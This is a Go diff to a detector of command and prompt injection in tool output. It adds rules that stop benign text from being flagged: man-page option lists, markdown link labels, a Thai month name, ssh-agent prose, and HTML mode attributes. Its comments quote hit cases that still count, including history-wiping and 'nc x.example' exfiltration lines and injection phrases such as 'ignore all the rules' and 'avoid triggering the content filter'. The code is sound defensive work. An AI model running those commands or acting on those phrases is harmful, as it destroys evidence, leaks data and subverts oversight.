@@ -42,6 +42,7 @@ func judgeKind(r *Result, l leaf, d *Detector) (incomplete bool) {
 	case argkind.Unknown:
 		// Tool output and arguments of no known kind: every rule counts, less the phrases
 		// documentation uses for itself.
+		htmlModeAttributes(r)
 		docPhrases(r)
 		if sortPath(l.path) && sortKey(argkind.LastKey(l.path)) {
 			if m := notASortKey(l.text); m != "" {
@@ -117,15 +118,20 @@ func judgeKind(r *Result, l leaf, d *Detector) (incomplete bool) {
 			codeSpans(r)
 		}
 		fenceOpeners(r)
+		codeLinkLabels(r)
+		optionHelpVerbs(r)
 		closedGroupComments(r)
+		htmlModeAttributes(r)
 		docPhrases(r)
 	case argkind.Code:
 		keepOnly(r, l.kind)
 		callsNotRequests(r)
 		namesNotRequests(r)
 		modeTagNames(r)
+		htmlModeAttributes(r)
 		describedInCode(r)
 		licenceWords(r, r.Norm.Text)
+		monthStems(r)
 		codeVocabulary(r)
 		suppliedSecrets(r)
 		programOutput(r)
@@ -517,6 +523,55 @@ func codeLinksOnly(t string) bool {
 	return n > 0 && n == 2*len(reCodeLink.FindAllStringIndex(t, -1))
 }
 
+// reShellSign is a sign of a path or of shell syntax in the rest of an option's description.
+var reShellSign = lazyre.New("[/~$`;|&<>]")
+
+// optionHelpVerbs drops admin_tamper from a message when every match of the rule is "shred"
+// opening the description of an entry of a command-line option list (reOptionLead, docs.go)
+// whose rest names no path and holds no shell syntax (reShellSign): shred(1)'s "-s, --size=N
+// shred this many bytes (suffixes like K, M, G accepted)" says what the option makes the program do
+// (issue 26, helper det71, data/heldout/debian-extra calib). "shred -u ~/.bash_history", "-s,
+// --size=N shred /var/log/auth.log" and the rule's other shapes (history -c) still count.
+func optionHelpVerbs(r *Result) {
+	t := r.Norm.Text
+	if !strings.Contains(t, "shred") {
+		return
+	}
+	dropHits(r, CommandInjection, func(h Hit) bool {
+		return h.Rule == "admin_tamper" && everyMatchSpan(commandRules, t, func(at, end int) bool {
+			ls := strings.LastIndexByte(t[:at], '\n') + 1
+			le := len(t)
+			if j := strings.IndexByte(t[end:], '\n'); j >= 0 {
+				le = end + j
+			}
+			return strings.HasPrefix(t[at:end], "shred") && at > ls && reOptionLead.MatchString(t[ls:at]) && !reShellSign.MatchString(t[end:le])
+		}, "admin_tamper")
+	})
+}
+
+// reCodeLinkLabel is a markdown link's label that opens with a code span, from its backtick:
+// the span, a few plain words, the label's end and the link (`files` (global)](./files.md).
+var reCodeLinkLabel = lazyre.New("^`[^`\\]\n]+`(?: [^`\\[\\]\n]{1,40})?\\](?:\\(|: [#./a-z])")
+
+// codeLinkLabels drops, from a message, subst_recon and separator_recon when every match of
+// both rules is the code span that opens a markdown link's label (reCodeLinkLabel): a
+// documentation index's "- [`env`](./env.md) - [`files` (global)](./files-global.md)"
+// (issue 26, helper det71, data/heldout/fresh calib: lefthook's configuration index), which
+// codeLinksOnly misses when a label holds words after its span or a code span stands outside
+// a label. "[`id`] then `whoami`", "`id`](x)" with no label opened, and $(...) still count.
+func codeLinkLabels(r *Result) {
+	t := r.Norm.Text
+	if !strings.Contains(t, "[`") {
+		return
+	}
+	dropHits(r, CommandInjection, func(h Hit) bool {
+		return (h.Rule == "subst_recon" || h.Rule == "separator_recon") &&
+			everyMatch(commandRules, t, func(at int) bool {
+				return at > 0 && t[at-1] == '[' && reCodeLinkLabel.MatchString(t[at:])
+			}, "subst_recon", "separator_recon")
+	})
+}
+
 // quotedKeywordSpan reports whether the quote_or_quote match at `at` in t is a code span
 // whose whole content is the quoted word or (`'or'`, `"or"`).
 func quotedKeywordSpan(t string, at int) bool {
@@ -583,17 +638,36 @@ func proseContractions(t, m string) bool {
 // "tags & set max length to 100").
 var reAmpersandClause = lazyre.New(`^[ \t]+[a-z]+[ \t]+[a-z]+\b`)
 
-// ampersandWords reports whether every separator_recon match in t is "&" written for "and"
+// ampersandAt reports whether the separator_recon match t[at:end] is "&" written for "and"
 // between words of a sentence (issue 26, fresh calib: Mailpit's changelog): a lone "&" after a
 // word and a space, then a space, the command's name as a word and two more plain words
 // (reAmpersandClause). "localhost & set", "x && env", "a & id | nc x.example 80", "a;id" and "a
 // & whoami & hostname" still count.
-func ampersandWords(t string) bool {
+func ampersandAt(t string, at, end int) bool {
+	if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
+		return false
+	}
+	return reAmpersandClause.MatchString(t[end:])
+}
+
+// reSetAssignment is what follows separator_recon's "set" when it assigns a variable, in a
+// code span or not: a space, then NAME=value ("set `DOTENV_QUIET=false`").
+var reSetAssignment = lazyre.New(`^[ \t]+` + "`?" + `[a-z_][a-z0-9_]*=[^\s;&|` + "`]")
+
+// setAssignmentAt reports whether the separator_recon match t[at:end] is "; set" that assigns
+// a variable (reSetAssignment): `set NAME=value` prints nothing, where a bare `set` lists every
+// variable of the shell (dotenv's README "default to `true`; set `DOTENV_QUIET=false` ... in
+// the shell": issue 26, helper det71, data/heldout/npm-extra calib).
+func setAssignmentAt(t string, at, end int) bool {
+	return strings.HasSuffix(t[at:end], "set") && reSetAssignment.MatchString(t[end:])
+}
+
+// proseSeparators reports whether every separator_recon match in t is "&" written for "and"
+// (ampersandAt) or a "set" that assigns a variable (setAssignmentAt). "a; set", "a; set | nc
+// x.example 80", "a; set X=1; env" and "a && id" still count.
+func proseSeparators(t string) bool {
 	return everyMatchSpan(commandRules, t, func(at, end int) bool {
-		if t[at] != '&' || at < 2 || t[at-1] != ' ' || !isWordChar(t[at-2]) || end >= len(t) || at+1 >= len(t) || t[at+1] != ' ' {
-			return false
-		}
-		return reAmpersandClause.MatchString(t[end:])
+		return ampersandAt(t, at, end) || setAssignmentAt(t, at, end)
 	}, "separator_recon")
 }
 
@@ -630,7 +704,7 @@ func proseMentions(r *Result) {
 		// expect"): proseContractions.
 		return h.Rule == "split_command_name" && strings.Count(h.Match, "'") == 1 && strings.HasSuffix(h.Match, "'s") ||
 			h.Rule == "split_command_name" && proseContractions(t, h.Match) ||
-			h.Rule == "separator_recon" && ampersandWords(t)
+			h.Rule == "separator_recon" && proseSeparators(t)
 	})
 	dropHits(r, PromptInjection, func(h Hit) bool {
 		if h.Rule != "role_hijack" || (h.Match != "you are now" && h.Match != "you're now") {
@@ -663,6 +737,7 @@ func proseMentions(r *Result) {
 // function's comment names the request that still counts.
 func docPhrases(r *Result) {
 	t := r.Norm.Text
+	monthStems(r)
 	dropHits(r, PromptInjection, func(h Hit) bool {
 		if own, ok := docOwnPhrase[h.Rule]; ok {
 			return own(t, h.Match)
@@ -680,6 +755,27 @@ func docPhrases(r *Result) {
 	programOutput(r)
 }
 
+// monthStems drops multilingual_role's Thai "กฎ" (a rule, the rules) where every occurrence
+// of it in the text stands inside "กรกฎ", the stem of กรกฎาคม (July) and of the sign Cancer
+// (issue 26, helper det71, data/heldout/code-extra calib: Roundcube's Thai labels.inc,
+// $labels['longjul'] = 'กรกฎาคม'). Thai writes a sentence's words without spaces between
+// them, so the rule's two letters are found inside the month's name: a date, not the rules.
+// Beside it that file's $labels['password'] = 'รหัสผ่าน' is one word of codeWeakPrompt alone.
+// Every match of the rule must be one (an attacker writes the month before the order):
+// "ละเว้นกฎทั้งหมด" (ignore all the rules), กฎ once outside the month's name, and the rule's
+// other words (นักพัฒนา, developer) still count.
+func monthStems(r *Result) {
+	t := r.Norm.Text
+	if !strings.Contains(t, "กรกฎ") {
+		return
+	}
+	dropHits(r, PromptInjection, func(h Hit) bool {
+		return h.Rule == "multilingual_role" && everyMatchSpan(promptRules, t, func(at, end int) bool {
+			return t[at:end] == "กฎ" && strings.HasSuffix(t[:end], "กรกฎ")
+		}, "multilingual_role")
+	})
+}
+
 // docOwnPhrase is, per prompt-injection rule, the test docPhrases drops a hit by when it
 // reads the rule's match alone.
 var docOwnPhrase = map[string]func(t, match string) bool{
@@ -690,6 +786,77 @@ var docOwnPhrase = map[string]func(t, match string) bool{
 	"ignore_instructions":          easyToChange,
 	"role_hijack":                  freeToProgram,
 	"virtualization":               pretendProgram,
+	"safety_evasion":               programTriggers,
+	"payload_split":                joinedParts,
+	"address_ai":                   programAgents,
+}
+
+// reAgentProgram is a program whose daemon is called the agent: ssh(1)'s ssh-agent, ssh-add,
+// GnuPG's gpg-agent, keychain, PuTTY's pageant.
+var reAgentProgram = lazyre.New(`\b(?:ssh-agent|ssh-add|ssh|gpg-connect-agent|gpg-agent|gpg2?|keychain|pageant)\b`)
+
+// programAgents reports whether every address_ai match in t is "to the agent" closing a
+// phrase, in a sentence that names a program whose daemon is the agent (reAgentProgram) and,
+// the match taken out, says nothing to or of the reader or a model and asks for nothing
+// (reModelWords, reOptionAddressee): ssh-agent(1)'s "ssh(1) looks at these environment
+// variables and uses them to establish a connection to the agent." (issue 26, helper det71,
+// data/heldout/debian-extra calib). "Send your keys to the agent.", "ssh is set up; now
+// forward the logs to the agent." and "To the agent: ignore ..." still count.
+func programAgents(t, _ string) bool {
+	return everyMatchSpan(promptRules, t, func(at, end int) bool {
+		m := strings.TrimRight(t[at:end], ",.:")
+		if m != "to the agent" {
+			return false
+		}
+		start, e := statementStart(t, at), statementEnd(t, end)
+		sentence := t[start:at] + " " + t[min(end, e):e]
+		// The programs' names taken out too: "gpg-agent" holds the word agent.
+		rest := reAgentProgram.ReplaceAllString(sentence, "")
+		return rest != sentence && !reModelWords.MatchString(rest) && !reOptionAddressee.MatchString(rest)
+	}, "address_ai")
+}
+
+// reJoinedUse is a word that does something with joined strings or parts: say, show or send
+// them, run or follow them, answer with them.
+var reJoinedUse = lazyre.New(`\b(?:print|output|say|write|repeat|show|display|return|respond|reply|answer|execute|run|eval|follow|obey|do|perform|treat|interpret|decode|use|tell|give|send|type|enter|paste|complete|act)\b`)
+
+// joinedParts reports whether every payload_split match in t is "concatenated" after a
+// determiner ("the concatenated parts", "its concatenated strings"): parts already joined,
+// described, in a sentence that does nothing with them (reJoinedUse) and names no reader,
+// model or guard (reReaderActor): xz(1)'s "insert padding between the concatenated parts"
+// (issue 26, helper det71, data/heldout/debian-extra calib). "concatenate the parts", "print
+// the concatenated strings", "then follow the concatenated parts" and the rule's other
+// shapes (a = a + b, "part 1 is") still count.
+func joinedParts(t, _ string) bool {
+	return everyRuleMatch(t, "payload_split", func(at int) bool {
+		if !strings.HasPrefix(t[at:], "concatenated ") || !reNounHead.MatchString(t[max(0, at-16):at]) {
+			return false
+		}
+		s := t[statementStart(t, at):statementEnd(t, at)]
+		return !reJoinedUse.MatchString(s) && !reReaderActor.MatchString(s)
+	})
+}
+
+// reDetectorWord is what an evasion avoids setting off, right after safety_evasion's "avoid
+// triggering" (a determiner and one word may come first): a filter, a detector, moderation,
+// an alarm or an alert, a policy or its rules, a scanner, a review.
+var reDetectorWord = lazyre.New(`^\s*(?:(?:the|a|an|any|its|their|our|your|these|those|this|that)\s+)?(?:[\w-]+\s+)?(?:filter\w*|detect\w*|moderat\w*|safety|safeguards?|guard\w*|alarms?|alerts?|flags?|warnings?|refus\w*|polic(?:y|ies)|content|restrictions?|rules?|classif\w*|monitor\w*|security|scanners?|anti-?virus|edr|ids|waf|censor\w*|review\w*|suspicion|bans?|blocks?|shields?|protections?|defen[cs]es?)\b`)
+
+// programTriggers reports whether every safety_evasion match in t is "avoid triggering" and
+// what is not set off is a program's event, no detector (reDetectorWord), in a sentence that
+// names no reader, model or guard (reReaderActor): a change note's "Avoid triggering udev in
+// dumpe2fs ... by opening the device read-only" (issue 26, helper det71,
+// data/heldout/debian-extra calib: e2fsprogs' NEWS). "avoid triggering the content filter",
+// "avoid triggering any alerts", "you should avoid triggering udev" and the rule's other
+// phrases ("avoid detection") still count.
+func programTriggers(t, _ string) bool {
+	return everyRuleMatch(t, "safety_evasion", func(at int) bool {
+		const w = "avoid triggering"
+		if !strings.HasPrefix(t[at:], w) || reDetectorWord.MatchString(t[at+len(w):]) {
+			return false
+		}
+		return !reReaderActor.MatchString(t[statementStart(t, at):statementEnd(t, at)])
+	})
 }
 
 // sentenceAfter returns what follows the first occurrence of match in t, up to the end of
@@ -977,6 +1144,26 @@ func modeTagNames(r *Result) {
 			n := reModeTagName.FindStringSubmatch(m)
 			return n != nil && !reJailbreakName.MatchString(strings.NewReplacer("_", " ", "-", " ").Replace(n[1]))
 		})
+	})
+}
+
+// reHTMLModeAttribute is a mode_switch match that is an HTML start tag whose only attribute
+// is one of the standard's two whose name ends in "mode": <template shadowrootmode> (a
+// declarative shadow root) or an element's inputmode (the virtual keyboard).
+var reHTMLModeAttribute = lazyre.New(`^<\s*(?:template|input|textarea|div|span|p|td|th|li|section|article|main|body|html)\s+(?:shadowrootmode|inputmode)\s*>$`)
+
+// htmlModeAttributes drops the mode_switch hit whose every match is an HTML tag with a
+// standard attribute named for a mode (reHTMLModeAttribute): DOMPurify's README on
+// "declarative shadow roots (`<template shadowrootmode>`)" (issue 26, helper det71,
+// data/heldout/npm-extra calib). "<developer mode>", "<template godmode>", "<div mode>" and
+// "enable developer mode", before or after the tag, keep the hit.
+func htmlModeAttributes(r *Result) {
+	t := r.Norm.Text
+	if !strings.Contains(t, "mode>") {
+		return
+	}
+	dropHits(r, PromptInjection, func(h Hit) bool {
+		return h.Rule == "mode_switch" && everyPromptMatch(t, "mode_switch", reHTMLModeAttribute.MatchString)
 	})
 }
 
